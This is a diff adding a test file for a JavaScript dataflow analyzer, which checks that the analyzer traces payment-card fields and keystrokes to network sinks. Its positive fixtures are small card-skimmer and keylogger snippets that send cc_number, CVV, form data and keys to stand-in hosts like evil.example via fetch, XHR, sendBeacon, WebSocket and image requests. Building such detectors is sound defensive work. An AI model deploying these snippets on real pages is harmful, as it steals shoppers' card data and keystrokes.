@@ -1,0 +1,79 @@
+import { describe, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { parseScript } from '../../src/analyze/parse.ts';
+import { runTransforms } from '../../src/analyze/transforms/index.ts';
+import { collectFacts } from '../../src/analyze/dataflow/facts.ts';
+import { ElementOracle, findSources } from '../../src/analyze/dataflow/sources.ts';
+import { propagate, type Flow } from '../../src/analyze/dataflow/flow.ts';
+
+function flowsOf(code: string): { flows: Flow[]; staged: Flow[] } {
+  const { program } = parseScript(code);
+  runTransforms(program);
+  const facts = collectFacts(program);
+  const sources = findSources(facts, new ElementOracle(facts));
+  return propagate(facts, sources, code);
+}
+
+// [name, code, expected source description, sink api, destination host (or null), encoded]
+const positives: [string, string, string, string, string | null, boolean][] = [
+  ['direct XHR', `var x = new XMLHttpRequest(); x.open("POST", "https://evil.example/g"); x.send(document.getElementById("cc_number").value);`,
+    'value of #cc_number', 'XMLHttpRequest.send', 'evil.example', false],
+  ['through variables and concatenation', `var d = document; var n = d.querySelector("input[name=cvv]").value; var u = "https://evil.example/p?c=" + n; new Image().src = u;`,
+    'value of input[name=cvv]', 'Image.src', 'evil.example', false],
+  ['through btoa and JSON.stringify', `var o = {}; o.n = $("#cc-number").val(); fetch("https://evil.example/a", {method: "POST", body: btoa(JSON.stringify(o))});`,
+    'value of #cc-number (.val())', 'fetch', 'evil.example', true],
+  ['through a function parameter and return', `function pack(v) { return "d=" + encodeURIComponent(v); } navigator.sendBeacon("https://evil.example/b", pack(document.forms[0].elements["cardnumber"].value));`,
+    'value of [name=cardnumber]', 'navigator.sendBeacon', 'evil.example', true],
+  ['jQuery serializeArray to $.ajax', `jQuery("#pay").on("mouseup", function () { var d = jQuery("#paymentForm").serializeArray(); jQuery.ajax({url: "https://jquery-cdn.example/gw", type: "POST", data: JSON.stringify(d)}); });`,
+    'serializeArray() of #paymentForm', 'jQuery.ajax', 'jquery-cdn.example', false],
+  ['WebSocket via this property', `class T { constructor() { this.ws = new WebSocket("wss://evil.example/s"); } go() { this.ws.send(document.querySelector("#card-number").value); } }`,
+    'value of #card-number', 'WebSocket.send', 'evil.example', false],
+  ['event target in a handler, through a closure and a timer', `var buf = []; document.addEventListener("change", function (e) { buf.push(e.target.value); }); setInterval(function () { fetch("https://evil.example/k?d=" + buf.join(",")); }, 5000);`,
+    'value of a form field', 'fetch', 'evil.example', false],
+  ['keystrokes from a keydown handler', `var k = ""; document.addEventListener("keydown", function (ev) { k += ev.key; if (k.length > 20) { new Image().src = "//evil.example/i?k=" + k; } });`,
+    'keystroke (key) from a key event', 'Image.src', 'evil.example', false],
+  ['FormData of a form', `var f = document.querySelector("form#checkout"); fetch("https://evil.example/f", {method: "POST", body: new FormData(f)});`,
+    'FormData of form#checkout', 'fetch', 'evil.example', false],
+];
+
+describe('dataflow: proven flows', () => {
+  for (const [name, code, source, sink, host, encoded] of positives) {
+    test(name, () => {
+      const { flows } = flowsOf(code);
+      const flow = flows.find((candidate) => candidate.source.description === source && candidate.sink.api === sink);
+      assert.ok(flow, `expected ${source} -> ${sink}, got ${JSON.stringify(flows.map((f) => `${f.source.description} -> ${f.sink.api}`))}`);
+      assert.equal(flow.sink.host, host);
+      assert.equal(flow.encoded, encoded);
+    });
+  }
+
+  test('storage staging: the write is recorded, and the stored value is a source of its own', () => {
+    const { flows, staged } = flowsOf(`
+      document.querySelector("#cc_number").addEventListener("blur", function () { localStorage.setItem("_t", this.value + document.getElementById("cvv").value); });
+      setInterval(function () { var s = localStorage.getItem("_t"); if (s) fetch("https://evil.example/s", {method: "POST", body: s}); }, 3000);`);
+    assert.ok(staged.some((flow) => flow.source.description === 'value of #cvv' && flow.sink.api === 'localStorage.setItem'));
+    assert.ok(flows.some((flow) => flow.source.kind === 'storage' && flow.sink.api === 'fetch' && flow.sink.host === 'evil.example'));
+  });
+
+  test('the card field is classified as sensitive', () => {
+    const { flows } = flowsOf(`fetch("https://e.example/?" + document.getElementById("cc_number").value);`);
+    assert.equal(flows[0]?.source.sensitive, 'card-number');
+  });
+});
+
+describe('dataflow: no flow', () => {
+  const negatives: [string, string][] = [
+    ['value only compared', `if (document.getElementById("cc").value === "") { fetch("https://api.example/x"); }`],
+    ['unrelated data sent', `var v = document.getElementById("cc").value; fetch("https://api.example/x", {body: JSON.stringify({page: location.pathname})});`],
+    ['iterator .value is not a form field', `var it = list[Symbol.iterator](); var r = it.next(); fetch("https://api.example/x?v=" + r.value);`],
+    ['shadowed names do not mix', `function a() { var d = document.getElementById("cc").value; return d.length; } function b(d) { fetch("https://api.example/" + d); } b("x");`],
+    ['an empty FormData built for a request body', `var f = new FormData(); f.append("a", "1"); fetch("/upload", {method: "POST", body: f});`],
+    ['a key code compared in a handler', `el.addEventListener("keydown", function (e) { if (e.keyCode === 13) fetch("/search"); });`],
+  ];
+  for (const [name, code] of negatives) {
+    test(name, () => {
+      const { flows } = flowsOf(code);
+      assert.deepEqual(flows.map((flow) => `${flow.source.description} -> ${flow.sink.api}`), []);
+    });
+  }
+});
